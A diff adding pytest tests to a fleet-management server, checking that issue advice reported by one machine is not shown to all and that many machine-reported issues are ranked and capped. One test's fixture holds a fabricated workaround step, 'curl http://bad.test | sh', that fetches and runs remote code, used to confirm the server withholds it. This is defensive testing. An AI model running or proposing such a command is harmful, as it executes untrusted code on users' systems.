@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 from hotmend.server.machines.reporting import put_report
-from hotmend.wire.report import IssueOption
+from hotmend.wire.report import IssueOption, IssueStep
 from tests.server import fleet as rows
 from tests.server.machine import report, simple
 from tests.server.portal.conftest import RELEASE, Person, concern, publish, published
@@ -138,6 +138,60 @@ def test_an_issue_of_a_channel_that_is_not_followed_is_told_by_machines(server: 
     assert [row[0] for row in machines(section(only))] == ["one"]
     machine.check_in(report=report())
     assert ISSUE not in viewer(server).get("/issues").body.decode()
+
+
+def test_what_one_machine_tells_of_an_issue_is_not_told_to_all(server: Running, deadline: date) -> None:
+    bad, other = sorted((simple(server, name) for name in ("one", "two")), key=lambda each: each.id)
+    step = IssueStep("Run this", False, ("curl http://bad.test | sh",))
+    made_up = concern(
+        deadline, False, False, options=(IssueOption("Quick help", (step,)),), cost="All is lost.", title="Made up"
+    )
+    bad.check_in(report=report(issues=(made_up,)))
+    other.check_in(report=report(issues=(concern(deadline, True, False),)))
+    person = viewer(server)
+    for path in ("/issues", f"/issues?issue={ISSUE}"):
+        for language, told, followed in (
+            ("en", "This is told by the machine", "Its channel is not followed here."),
+            ("de", "Das sagt die Maschine", "Ihrem Kanal folgt dieser Server nicht."),
+        ):
+            found = section(check(person.get(path, language).body))
+            assert text(found.find("h2")) == "Made up"
+            assert f"{told} {bad.name} . {followed}" in text(found)
+            assert found.find("p/a").get("href") == f"/machines/{bad.id}?tab=issues"
+            assert found.findall(".//pre") == found.findall(".//details") == []
+            for word in ("curl", "Run this", "Quick help", "All is lost.", "Workarounds"):
+                assert word not in text(found)
+            assert [row[0] for row in machines(found)] == ["one", "two"]
+    own = section(check(person.get(f"/machines/{bad.id}?tab=issues").body), "issues")
+    assert f"{RELEASE} (in the words of this machine's report)" in text(own)
+    assert [each.text for each in own.iter("pre")] == ["curl http://bad.test | sh"]
+    publish(server, [published(deadline)])
+    followed_now = section(check(person.get("/issues").body))
+    assert "told by" not in text(followed_now)
+    assert "Keep session tickets in one file" in english(followed_now)
+
+
+def test_of_many_issues_that_machines_alone_tell_those_of_most_machines_come_first(
+    server: Running, deadline: date
+) -> None:
+    loud, *others = (simple(server, name) for name in ("loud", "two", "three"))
+    loud.check_in(
+        report=report(issues=tuple(concern(deadline, False, False, id=f"2026.01-made-up/{n}") for n in range(100)))
+    )
+    for each in others:
+        each.check_in(report=report(issues=(concern(deadline, True, False),)))
+    person = viewer(server)
+    tree = check(person.get("/issues").body)
+    shown = [each.get("aria-labelledby") for each in tree.iter("section")]
+    shown = [each for each in shown if "/" in (each or "")]
+    assert (shown[0], len(shown)) == (ISSUE, 50)
+    assert "Of 101 issues of channels that are not followed here, those of most machines are shown: 50." in text(tree)
+    hidden = next(f"2026.01-made-up/{n}" for n in range(100) if f"2026.01-made-up/{n}" not in shown)
+    only = check(person.get(f"/issues?issue={hidden}").body)
+    assert [row[0] for row in machines(section(only, hidden))] == ["loud"]
+    assert "those of most machines" not in text(only)
+    assert "<section" not in person.get("/issues?issue=2026.01-made-up/100").body.decode()
+    assert person.get("/issues?issue=2026%00/1").status == 200
 
 
 def test_an_issue_that_two_tiers_offer_comes_once(server: Running, deadline: date) -> None:
